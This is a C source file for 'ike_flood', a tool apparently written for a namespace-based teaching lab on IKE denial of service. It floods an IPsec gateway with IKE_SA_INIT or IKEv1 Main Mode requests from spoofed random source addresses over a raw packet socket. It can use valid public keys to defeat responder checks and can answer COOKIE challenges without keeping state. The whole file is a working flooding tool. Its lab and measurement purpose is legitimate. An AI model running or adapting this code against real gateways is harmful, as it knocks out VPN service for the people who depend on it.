/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * ike_flood: an IKE_SA_INIT flood for the namespace lab (issue 8, "IKE
 * under attack").  Not installed.  Run it inside a namespace that owns
 * IFACE; it writes whole Ethernet frames with an AF_PACKET socket
 * (sendmmsg, qdisc bypassed) to the gateway's MAC and address, from random
 * source addresses in PREFIX (spoofed: give the gateway a route for PREFIX
 * via this namespace, whose kernel then drops the replies).
 *
 *   ike_flood --iface IF --dst-mac MAC --dst A.B.C.D --prefix A.B.C.D/LEN
 *             [--rate PPS] [--duration S | --count N] [--src-port P]
 *             [--dst-port P] [--group 19|14] [--ke valid|random] [--ikev1]
 *             [--answer-cookies] [--batch N] [--progress]
 *
 *   --rate PPS        frames a second (0, the default: as fast as it can)
 *   --duration S      stop after S seconds (default 10 unless --count)
 *   --count N         stop after N frames
 *   --src-port P      UDP source port (default 500; 0: random per frame)
 *   --group G         KE group: 19 ECP-256 (default) or 14 MODP-2048; the
 *                     proposal is aes128-sha256-G
 *   --ke valid        KE data from a pool of real public keys (default: a
 *                     responder checks the public value before it keeps
 *                     state); --ke random: random bytes
 *   --ikev1           IKEv1 Main Mode first messages instead
 *   --answer-cookies  read the gateway's replies to the spoofed sources (the
 *                     frames pass this interface) and send each COOKIE back
 *                     in a new request: an attacker that owns its addresses
 *
 * Each request has a random SPI and source address; Ni is a function of the
 * SPI, so a COOKIE can be answered without keeping anything.  SIGINT and
 * SIGTERM stop it early.  At the end it prints what it sent and saw, and a
 * machine-readable line:
 *   FLOOD sent=N elapsed=S pps=R cookie_echoes=N responses=N cookies=N
 *         first_cookie_s=S send_errors=N
 * (first_cookie_s: seconds from the start to the first COOKIE challenge
 * seen, -1 if none).
 */

#define _GNU_SOURCE		/* sendmmsg */

#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>

#include "ike_flood.h"

enum {
	FLOOD_BATCH_MAX = 64,
	FLOOD_CQ = 4096,		/* COOKIE answers waiting to go */
	FLOOD_RX_BURST = 256,
};

struct flood_run {
	struct flood_cfg cfg;
	const char *iface;
	double rate, duration;
	uint64_t count;
	unsigned batch;
	bool answer_cookies, progress;
	int fd, ifindex;
	uint64_t rng;
	/* COOKIE answers to send (a ring) */
	struct flood_req cq[FLOOD_CQ];
	unsigned cq_head, cq_tail;
	/* what happened */
	uint64_t sent, cookie_echoes, responses, cookies, send_errors, cq_full;
	double first_cookie_s;
};

static volatile sig_atomic_t flood_stop;

static void flood_on_signal(int sig)
{
	(void)sig;
	flood_stop = 1;
}

static double flood_clock(clockid_t id)
{
	struct timespec ts;

	clock_gettime(id, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static double flood_now(void) { return flood_clock(CLOCK_MONOTONIC); }

static uint64_t flood_rand(struct flood_run *r)
{
	uint64_t z = (r->rng += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static void flood_usage(void)
{
	fprintf(stderr, "usage: ike_flood --iface IF --dst-mac MAC --dst A.B.C.D "
			"--prefix A.B.C.D/LEN [--rate PPS] [--duration S | --count N]\n"
			"       [--src-port P] [--dst-port P] [--group 19|14] [--ke valid|random] "
			"[--ikev1] [--answer-cookies] [--batch N] [--progress]\n");
}

static int flood_parse_mac(const char *s, uint8_t mac[6])
{
	unsigned v[6];

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
		return -1;
	for (int i = 0; i < 6; i++) {
		if (v[i] > 255)
			return -1;
		mac[i] = (uint8_t)v[i];
	}
	return 0;
}

static int flood_parse_prefix(const char *s, struct flood_cfg *c)
{
	char buf[32], *slash;
	struct in_addr a;
	long len;

	if (strlen(s) >= sizeof(buf))
		return -1;
	strcpy(buf, s);
	slash = strchr(buf, '/');
	if (slash == NULL)
		return -1;
	*slash = '\0';
	len = strtol(slash + 1, NULL, 10);
	if (inet_pton(AF_INET, buf, &a) != 1 || len < 8 || len > 30)
		return -1;
	c->mask = len == 0 ? 0 : ~0u << (32 - len);
	c->prefix = ntohl(a.s_addr) & c->mask;
	return 0;
}

static int flood_num(const char *s, double lo, double hi, double *out)
{
	char *end;
	double v = strtod(s, &end);

	if (*s == '\0' || *end != '\0' || v < lo || v > hi)
		return -1;
	*out = v;
	return 0;
}

/* Options into r; 0, or -1 after a message. */
static int flood_options(struct flood_run *r, int argc, char **argv)
{
	static const struct option opts[] = {
		{ "iface", required_argument, NULL, 'i' }, { "dst-mac", required_argument, NULL, 'm' },
		{ "dst", required_argument, NULL, 'd' }, { "prefix", required_argument, NULL, 'p' },
		{ "rate", required_argument, NULL, 'r' }, { "duration", required_argument, NULL, 't' },
		{ "count", required_argument, NULL, 'n' }, { "src-port", required_argument, NULL, 's' },
		{ "dst-port", required_argument, NULL, 'D' }, { "group", required_argument, NULL, 'g' },
		{ "ke", required_argument, NULL, 'k' }, { "ikev1", no_argument, NULL, '1' },
		{ "answer-cookies", no_argument, NULL, 'c' }, { "batch", required_argument, NULL, 'b' },
		{ "progress", no_argument, NULL, 'P' }, { NULL, 0, NULL, 0 },
	};
	bool have_mac = false, have_dst = false, have_prefix = false;
	double v;
	int o;

	r->cfg.sport = 500;
	r->cfg.dport = 500;
	r->cfg.group = 19;
	r->batch = 32;
	r->duration = -1;
	while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		int bad = 0;

		switch (o) {
		case 'i': r->iface = optarg; break;
		case 'm': bad = flood_parse_mac(optarg, r->cfg.dst_mac); have_mac = true; break;
		case 'd': bad = inet_pton(AF_INET, optarg, &r->cfg.dst_ip) != 1; have_dst = true; break;
		case 'p': bad = flood_parse_prefix(optarg, &r->cfg); have_prefix = true; break;
		case 'r': bad = flood_num(optarg, 0, 1e8, &r->rate); break;
		case 't': bad = flood_num(optarg, 0.001, 86400, &r->duration); break;
		case 'n': bad = flood_num(optarg, 1, 1e12, &v); r->count = (uint64_t)v; break;
		case 's': bad = flood_num(optarg, 0, 65535, &v); r->cfg.sport = (uint16_t)v; break;
		case 'D': bad = flood_num(optarg, 1, 65535, &v); r->cfg.dport = (uint16_t)v; break;
		case 'g': bad = flood_num(optarg, 14, 19, &v); r->cfg.group = (uint16_t)v; break;
		case 'k':
			bad = strcmp(optarg, "valid") != 0 && strcmp(optarg, "random") != 0;
			r->cfg.ke_random = strcmp(optarg, "random") == 0;
			break;
		case '1': r->cfg.ikev1 = true; break;
		case 'c': r->answer_cookies = true; break;
		case 'b': bad = flood_num(optarg, 1, FLOOD_BATCH_MAX, &v); r->batch = (unsigned)v; break;
		case 'P': r->progress = true; break;
		default: flood_usage(); return -1;
		}
		if (bad) {
			for (int i = 0; opts[i].name != NULL; i++)
				if (opts[i].val == o)
					fprintf(stderr, "ike_flood: bad value for --%s: %s\n",
						opts[i].name, optarg);
			flood_usage();
			return -1;
		}
	}
	if (r->iface == NULL || !have_mac || !have_dst || !have_prefix || optind != argc) {
		flood_usage();
		return -1;
	}
	if (r->duration < 0)
		r->duration = r->count > 0 ? 0 : 10;
	return 0;
}

/* The AF_PACKET socket on the interface, its MAC as our source. */
static int flood_socket(struct flood_run *r)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
	struct ifreq ifr = { 0 };
	int one = 1;

	r->fd = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, htons(ETH_P_IP));
	if (r->fd < 0) {
		perror("ike_flood: socket(AF_PACKET)");
		return -1;
	}
	r->ifindex = (int)if_nametoindex(r->iface);
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", r->iface);
	if (r->ifindex == 0 || ioctl(r->fd, SIOCGIFHWADDR, &ifr) < 0) {
		fprintf(stderr, "ike_flood: no interface %s here\n", r->iface);
		return -1;
	}
	memcpy(r->cfg.src_mac, ifr.ifr_hwaddr.sa_data, 6);
	sll.sll_ifindex = r->ifindex;
	if (bind(r->fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror("ike_flood: bind");
		return -1;
	}
	/* our own frames are not replies; skip the qdisc for speed */
	(void)setsockopt(r->fd, SOL_PACKET, PACKET_IGNORE_OUTGOING, &one, sizeof(one));
	(void)setsockopt(r->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	return 0;
}

/* Replies to the spoofed sources: count them, queue COOKIE answers. */
static void flood_rx(struct flood_run *r, double t0)
{
	uint8_t f[FLOOD_FRAME_MAX + 512];
	struct flood_resp resp;

	for (int i = 0; i < FLOOD_RX_BURST; i++) {
		ssize_t n = recv(r->fd, f, sizeof(f), 0);

		if (n <= 0)
			return;
		flood_parse(&r->cfg, f, (size_t)n, &resp);
		if (!resp.is_init_resp)
			continue;
		r->responses++;
		if (!resp.has_cookie)
			continue;
		r->cookies++;
		if (r->first_cookie_s < 0)
			r->first_cookie_s = flood_now() - t0;
		if (!r->answer_cookies)
			continue;
		if (r->cq_tail - r->cq_head >= FLOOD_CQ) {
			r->cq_full++;
			continue;
		}
		r->cq[r->cq_tail++ % FLOOD_CQ] = resp.req;
	}
}

/* The next request: a queued COOKIE answer, else a new source and SPI. */
static void flood_next(struct flood_run *r, struct flood_req *q, uint64_t rnd)
{
	uint32_t host;

	if (r->cq_head != r->cq_tail) {
		*q = r->cq[r->cq_head++ % FLOOD_CQ];
		r->cookie_echoes++;
		return;
	}
	host = (uint32_t)rnd & ~r->cfg.mask;
	if (host == 0 || host == ~r->cfg.mask)
		host = 1;
	q->src_ip = htonl(r->cfg.prefix | host);
	q->sport = r->cfg.sport != 0 ? r->cfg.sport : (uint16_t)(1024 + (rnd >> 32) % 64512);
	rnd = flood_rand(r);
	memcpy(q->spi, &rnd, 8);
	q->cookie_len = 0;
}

/* Send n frames; how many the socket took. */
static unsigned flood_send(struct flood_run *r, unsigned n)
{
	static uint8_t bufs[FLOOD_BATCH_MAX][FLOOD_FRAME_MAX];
	struct mmsghdr msgs[FLOOD_BATCH_MAX];
	struct iovec iov[FLOOD_BATCH_MAX];
	struct flood_req q;
	int k;

	memset(msgs, 0, sizeof(msgs[0]) * n);
	for (unsigned i = 0; i < n; i++) {
		uint64_t rnd = flood_rand(r);

		flood_next(r, &q, rnd);
		iov[i].iov_base = bufs[i];
		iov[i].iov_len = flood_frame(&r->cfg, &q, rnd, bufs[i]);
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	k = sendmmsg(r->fd, msgs, n, 0);
	if (k < 0) {
		if (errno != EAGAIN && errno != ENOBUFS && errno != EINTR) {
			perror("ike_flood: sendmmsg");
			flood_stop = 1;
		}
		r->send_errors += n;
		return 0;
	}
	r->send_errors += n - (unsigned)k;
	return (unsigned)k;
}

static void flood_loop(struct flood_run *r, double t0)
{
	struct pollfd pfd = { .fd = r->fd, .events = POLLIN };
	double next_progress = t0 + 1, now;
	uint64_t last_sent = 0;

	while (!flood_stop) {
		uint64_t due;

		now = flood_now();
		if (r->duration > 0 && now - t0 >= r->duration)
			break;
		if (r->count > 0 && r->sent >= r->count)
			break;
		flood_rx(r, t0);
		due = r->rate > 0 ? (uint64_t)((now - t0) * r->rate) + 1 : r->batch;
		due = r->rate > 0 ? (due > r->sent ? due - r->sent : 0) : due;
		if (due > r->batch)
			due = r->batch;
		if (r->count > 0 && due > r->count - r->sent)
			due = r->count - r->sent;
		if (due == 0) {
			(void)poll(&pfd, 1, 1);
		} else {
			unsigned k = flood_send(r, (unsigned)due);

			r->sent += k;
			if (k < due)
				(void)poll(&pfd, 1, 1);
		}
		if (r->progress && now >= next_progress) {
			fprintf(stderr, "ike_flood: %.0f s: %" PRIu64 " pps, %" PRIu64 " cookies seen\n",
				now - t0, r->sent - last_sent, r->cookies);
			last_sent = r->sent;
			next_progress += 1;
		}
	}
}

int main(int argc, char **argv)
{
	static struct flood_run r;
	struct sigaction sa = { .sa_handler = flood_on_signal };
	char dst[INET_ADDRSTRLEN];
	double t0, elapsed;
	uint64_t seed;

	r.fd = -1;
	r.first_cookie_s = -1;
	if (flood_options(&r, argc, argv) < 0)
		return 2;
	if (getrandom(&seed, sizeof(seed), 0) != sizeof(seed))
		seed = (uint64_t)time(NULL) ^ (uint64_t)getpid();
	r.rng = seed;
	r.cfg.nonce_key = flood_rand(&r);
	if (flood_socket(&r) < 0 || flood_ke_pool_init(&r.cfg) < 0)
		return 1;
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);
	inet_ntop(AF_INET, &r.cfg.dst_ip, dst, sizeof(dst));
	printf("ike_flood: %s requests (DH %u, KE %s) to %s port %u from %s, rate %s, start %.3f\n",
	       r.cfg.ikev1 ? "IKEv1 Main Mode" : "IKEv2 IKE_SA_INIT", r.cfg.group,
	       r.cfg.ke_random ? "random bytes" : "real public keys", dst, r.cfg.dport, r.iface,
	       r.rate > 0 ? "fixed" : "as fast as it can", flood_clock(CLOCK_REALTIME));
	fflush(stdout);

	t0 = flood_now();
	flood_loop(&r, t0);
	elapsed = flood_now() - t0;
	/* replies still in flight */
	for (double end = flood_now() + 0.2; flood_now() < end;) {
		flood_rx(&r, t0);
		usleep(10000);
	}
	printf("ike_flood: sent %" PRIu64 " requests in %.2f s: %.0f pps (asked for %.0f%s); "
	       "%" PRIu64 " of them echoed a COOKIE\n",
	       r.sent, elapsed, elapsed > 0 ? (double)r.sent / elapsed : 0.0, r.rate,
	       r.rate > 0 ? "" : ": unlimited", r.cookie_echoes);
	printf("ike_flood: seen %" PRIu64 " IKE_SA_INIT responses to the spoofed sources, %" PRIu64
	       " of them COOKIE challenges (first %.3f s after the start); %" PRIu64
	       " frames the socket refused, %" PRIu64 " cookies not queued\n",
	       r.responses, r.cookies, r.first_cookie_s, r.send_errors, r.cq_full);
	printf("FLOOD sent=%" PRIu64 " elapsed=%.3f pps=%.0f cookie_echoes=%" PRIu64
	       " responses=%" PRIu64 " cookies=%" PRIu64 " first_cookie_s=%.3f send_errors=%" PRIu64
	       "\n",
	       r.sent, elapsed, elapsed > 0 ? (double)r.sent / elapsed : 0.0, r.cookie_echoes,
	       r.responses, r.cookies, r.first_cookie_s, r.send_errors);
	close(r.fd);
	return 0;
}
